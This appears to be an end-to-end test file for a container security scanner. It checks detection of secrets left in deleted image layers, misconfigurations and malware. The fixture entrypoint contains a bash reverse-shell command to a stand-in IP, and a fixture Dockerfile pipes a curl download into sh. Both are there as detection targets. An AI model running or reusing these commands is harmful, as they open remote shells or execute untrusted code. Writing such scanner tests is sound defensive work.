/** End to end through the CLI: secrets in deleted layers, hardening, malware and Dockerfile checks on real fixture images. */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { generateKeyPairSync, randomBytes } from 'node:crypto';
import { mkdirSync, mkdtempSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { buildImage, writeDockerArchive } from '../fixtures/image-builder.js';

const CLI = join(import.meta.dirname, '..', '..', 'src', 'cli', 'main.ts');
// Absolute loader URL: `--import tsx` would resolve from the child's cwd, which may be a temp dir.
const TSX = import.meta.resolve('tsx');
function bulwark(args: string[], cwd?: string) {
  const r = spawnSync(process.execPath, ['--import', TSX, CLI, ...args], { encoding: 'utf8', cwd, maxBuffer: 64 << 20 });
  return { code: r.status, stdout: r.stdout, stderr: r.stderr };
}

test('a key added in one layer and deleted in the next is reported, redacted, as still extractable', async (t) => {
  const dir = mkdtempSync(join(tmpdir(), 'bw-e2e-'));
  t.after(() => rmSync(dir, { recursive: true, force: true }));
  const pem = generateKeyPairSync('ec', { namedCurve: 'P-256' }).privateKey.export({ type: 'sec1', format: 'pem' }).toString();
  const token = ['ghp_', randomBytes(27).toString('base64url').replace(/[-_]/g, 'x').slice(0, 36)].join('');
  const img = await buildImage({
    repoTags: ['e2e/secrets:1'],
    layers: [
      { entries: [{ path: 'etc/os-release', hostPath: '/etc/os-release' }, { path: 'tmp', type: 'directory', mode: 0o1777 }] },
      { entries: [{ path: 'root/.ssh/id_ecdsa', content: pem, mode: 0o600 }, { path: 'srv/app/settings.py', content: `GITHUB_TOKEN = "${token}"\n` }] },
      { whiteouts: ['root/.ssh/id_ecdsa'], compression: 'zstd' },
      { entries: [{ path: 'entrypoint.sh', content: ['#!/bin/sh', ['bash -i >& /dev/', 'tcp/198.51.100.7/4444 0>&1'].join('')].join('\n'), mode: 0o755 }] },
    ],
    config: { Entrypoint: ['/entrypoint.sh'], Env: ['PATH=/bin'] },
  });
  const tar = join(dir, 'img.tar');
  await writeDockerArchive(tar, [img]);
  const cache = join(dir, 'cache');
  const r = bulwark(['image', tar, '--format', 'json', '--scanners', 'secret,misconfig,malware', '--cache-dir', cache]);
  assert.equal(r.code, 0, r.stderr);
  const report = JSON.parse(r.stdout);
  const key = report.secrets.find((s: { ruleId: string }) => s.ruleId === 'private-key');
  assert.ok(key, 'private key found');
  assert.equal(key.path, 'root/.ssh/id_ecdsa');
  assert.equal(key.deleted, true);
  assert.equal(key.layer, img.layers[1].digest);
  assert.equal(key.deletedIn, img.layers[2].digest);
  const gh = report.secrets.find((s: { ruleId: string }) => s.ruleId === 'github-pat');
  assert.equal(gh.deleted, false);
  assert.equal(gh.line, 1);
  assert.ok(!r.stdout.includes(token) && !r.stdout.includes(pem.split('\n')[1]), 'no raw secret in the report');
  const ids = report.misconfigurations.map((m: { id: string }) => m.id);
  assert.ok(ids.includes('BW-IMG-001'), 'runs as root');
  assert.ok(ids.includes('BW-MAL-004'), 'reverse shell in the entrypoint script');
  assert.ok(!ids.includes('BW-IMG-003'), '/tmp is sticky scratch space, not a finding');
  // The secrets table marks the deleted file, and never prints the value either.
  const table = bulwark(['image', tar, '--scanners', 'secret', '--cache-dir', cache]);
  assert.match(table.stdout, /yes, in /);
  assert.ok(!table.stdout.includes(token));
  // The layer cache only lives where we said.
  assert.ok(readdirSync(cache).length > 0);
});

test('fs mode: Dockerfile checks with file and line', (t) => {
  const dir = mkdtempSync(join(tmpdir(), 'bw-e2e-'));
  t.after(() => rmSync(dir, { recursive: true, force: true }));
  mkdirSync(join(dir, 'svc'));
  writeFileSync(join(dir, 'svc', 'Dockerfile'), 'FROM python:latest\nRUN curl -sSL https://install.example.org | sh\nCOPY . .\nCMD ["python", "app.py"]\n');
  const r = bulwark(['fs', dir, '--format', 'json', '--scanners', 'misconfig']);
  assert.equal(r.code, 0, r.stderr);
  const got = JSON.parse(r.stdout).misconfigurations.map((m: { id: string; file: string; line: number }) => `${m.id}@${m.file}:${m.line}`).sort();
  for (const want of ['BW-DF-001@svc/Dockerfile:1', 'BW-DF-003@svc/Dockerfile:1', 'BW-DF-007@svc/Dockerfile:2', 'BW-DF-010@svc/Dockerfile:3']) {
    assert.ok(got.includes(want), `${want} in ${got.join(', ')}`);
  }
});

test('bulwark.yaml secret rules reach the layer walk, and a config change invalidates cached layers', async (t) => {
  const dir = mkdtempSync(join(tmpdir(), 'bw-e2e-'));
  t.after(() => rmSync(dir, { recursive: true, force: true }));
  const id = ['CORP', randomBytes(8).toString('hex').toUpperCase()].join('-');
  const img = await buildImage({ layers: [{ entries: [{ path: 'etc/app.conf', content: `license_id = ${id}\n` }] }] });
  const tar = join(dir, 'img.tar');
  await writeDockerArchive(tar, [img]);
  const cache = join(dir, 'cache');
  const scan = () => JSON.parse(bulwark(['image', tar, '--format', 'json', '--scanners', 'secret', '--cache-dir', cache], dir).stdout);
  assert.deepEqual(scan().secrets, [], 'no built-in rule knows this format');
  writeFileSync(join(dir, 'bulwark.yaml'), "secrets:\n  rules:\n    - id: corp-license\n      title: Corp license id\n      regex: 'CORP-[0-9A-F]{16}'\n      keywords: ['corp-']\n");
  const found = scan().secrets;
  assert.deepEqual(found.map((s: { ruleId: string; path: string }) => `${s.ruleId} ${s.path}`), ['corp-license etc/app.conf']);
});
